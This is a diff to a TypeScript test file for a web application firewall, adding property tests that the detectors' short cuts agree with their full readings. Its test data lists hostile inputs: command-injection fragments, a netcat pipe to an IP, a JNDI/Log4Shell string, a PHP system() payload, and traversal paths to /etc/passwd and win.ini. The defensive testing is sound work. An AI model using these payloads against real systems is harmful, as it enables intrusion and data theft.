@@ -2,11 +2,13 @@ import { describe, test } from 'node:test';
 import assert from 'node:assert/strict';
 import { C, charMask } from '../../src/waf/char-mask.js';
 import { ATTACK_CLASSES, type AttackClass } from '../../src/waf/classes.js';
-import { detectCmdi } from '../../src/waf/cmdi.js';
+import { commandWordAt, detectCmdi, plainNonCommand } from '../../src/waf/cmdi.js';
 import { Inspector, sqlGate } from '../../src/waf/inspector.js';
 import { normaliseValue } from '../../src/waf/normalise.js';
 import { detectSqli, needsPlainReading, needsPlainReadingSlow } from '../../src/waf/sqli.js';
-import { TWO_CHAR_OPS } from '../../src/waf/sql-tokens.js';
+import { SIGNAL_HASHES, SIGNAL_WORDS, TWO_CHAR_OPS } from '../../src/waf/sql-tokens.js';
+import { detectSsti } from '../../src/waf/ssti.js';
+import { findSensitivePath, findWrapper, SENSITIVE_PATHS, WRAPPERS } from '../../src/waf/traversal.js';
 
 /**
  * The inspector skips detectors by the characters and words a value contains (its charMask), and
@@ -180,5 +182,125 @@ describe('SQL lexer tables', () => {
   test('every two-character operator ends in a character the lexer pre-checks (= < > | & :)', () => {
     assert.ok(TWO_CHAR_OPS.size > 10);
     for (const op of TWO_CHAR_OPS) assert.ok('=<>|&:'.includes(op[1] as string), op);
+  });
+});
+
+/** The pieces the short cuts below look at: words, shell commands, paths, wrappers, templates. */
+const MORE_PIECES = [
+  ...PIECES,
+  ...[...SIGNAL_WORDS].flatMap((w) => [w, w.toUpperCase(), ' ' + w + ' ']),
+  ...['Or', 'sElect', 'xİ', 'or\u212a', 'K', 'abcdefghijklmnopqrstuvwxyzabcdefgh', '_', 'x1'],
+  ...[' sleep 5', '|whoami', '; cat ', "w'h'o'am'i", '$(id)', '`id`', '/usr/bin/id', 'ls${IFS}-la'],
+  ...['; ping -c 1 x.y', '& nslookup a.b', 'powershell.exe', 'whoami.exe', '| nc ', '; echo "x"', 'net1'],
+  ...[...SENSITIVE_PATHS, ...WRAPPERS, 'p:', 'a:', '/./', '//', '\\', 'C:\\Windows', 'WIN.INI'],
+  ...['<?php', '{$smarty', '${t(', '__class__.__', '#{t(', '.getclass().forname', '${jndi:', '<%', '[%'],
+  ...['#{', '{%', '@(', '[[', '7*7', 'config', '#set(', '<#assign', '@java.lang', 'java.lang.runtime'],
+];
+
+function anotherValue(next: () => number): string {
+  let value = '';
+  const pieces = 1 + Math.floor(next() * 12);
+  for (let i = 0; i < pieces; i++) value += MORE_PIECES[Math.floor(next() * MORE_PIECES.length)];
+  return value;
+}
+
+/** charMask as it was first written (a hash per character), the reference for the table-driven one. */
+function referenceCharMask(value: string): number {
+  const word = (c: number): number =>
+    (c >= 48 && c <= 57) || (c >= 97 && c <= 122) || c === 95 ? c : c >= 65 && c <= 90 ? c + 32 : 0;
+  const signal = (start: number, end: number, hash: number): boolean =>
+    end - start <= 20 && SIGNAL_HASHES.has(hash) && SIGNAL_WORDS.has(value.slice(start, end).toLowerCase());
+  let mask = 0;
+  let start = -1;
+  let hash = 0;
+  for (let i = 0; i < value.length; i++) {
+    const c = value.charCodeAt(i);
+    if (c >= 128 || word(c) !== 0) {
+      if (c >= 128) mask |= C.nonAscii;
+      else mask |= charMask(value[i] as string) & ~(C.sqlWord | C.call);
+      if (start === -1) {
+        start = i;
+        hash = 0;
+      }
+      hash = (Math.imul(hash, 31) + (c >= 128 ? c : word(c))) | 0;
+      continue;
+    }
+    mask |= charMask(value[i] as string);
+    if (start !== -1) {
+      if (c === 40) mask |= C.call;
+      if (signal(start, i, hash)) mask |= C.sqlWord;
+      start = -1;
+    }
+  }
+  if (start !== -1 && signal(start, value.length, hash)) mask |= C.sqlWord;
+  return mask;
+}
+
+describe('short cuts of the detectors (same verdicts as the full readings)', () => {
+  test('charMask equals the per-character reference, word bits included', () => {
+    const next = random(29);
+    for (let i = 0; i < 50_000; i++) {
+      const value = anotherValue(next);
+      assert.equal(charMask(value), referenceCharMask(value), JSON.stringify(value));
+    }
+  });
+
+  test('ssti searches only the needles whose punctuation the value has: same verdicts', () => {
+    const next = random(31);
+    for (let i = 0; i < 30_000; i++) {
+      const v = normaliseValue(anotherValue(next), true);
+      for (const level of [1, 2, 3, 4] as const) {
+        // a mask with every bit set searches every needle: the reading without the short cut
+        assert.equal(
+          detectSsti(v.text, v.lower, level, v.hadNul, v.mask),
+          detectSsti(v.text, v.lower, level, v.hadNul, -1),
+          JSON.stringify(v.text),
+        );
+      }
+    }
+  });
+
+  test('traversal finds sensitive paths and wrappers exactly where a plain search does', () => {
+    const next = random(37);
+    for (let i = 0; i < 50_000; i++) {
+      const lower = anotherValue(next).toLowerCase();
+      assert.equal(
+        findSensitivePath(lower),
+        SENSITIVE_PATHS.some((p) => lower.includes(p)),
+        JSON.stringify(lower),
+      );
+      assert.equal(
+        findWrapper(lower),
+        WRAPPERS.some((w) => lower.includes(w)),
+        JSON.stringify(lower),
+      );
+    }
+  });
+
+  test('cmdi dismisses a word after a separator only when it is no command', () => {
+    const next = random(41);
+    for (let i = 0; i < 20_000; i++) {
+      const lower = anotherValue(next).toLowerCase();
+      for (let at = 0; at <= lower.length; at++) {
+        if (plainNonCommand(lower, at))
+          assert.equal(commandWordAt(lower, at), undefined, JSON.stringify([lower, at]));
+      }
+    }
+  });
+
+  test('attacks are still found through the level-1 mask pre-checks', () => {
+    const inspector = new Inspector({ paranoia: 1, classes: new Set(ATTACK_CLASSES) });
+    const cases: [string, AttackClass][] = [
+      ['{{7*7}}', 'ssti'],
+      ['${jndi:ldap://x/a}', 'ssti'],
+      ['<?php system($_GET[1]); ?>', 'ssti'],
+      ['php://filter/resource=index', 'traversal'],
+      ['..\\..\\windows\\win.ini', 'traversal'],
+      ['see /etc/passwd', 'traversal'],
+      ['a; whoami', 'cmdi'],
+      ['x | nc 10.0.0.1 4444', 'cmdi'],
+      ["O'Reilly' OR '1'='1", 'sqli'],
+    ];
+    for (const [value, cls] of cases) assert.equal(inspector.inspectValue(value, false)?.class, cls, value);
   });
 });
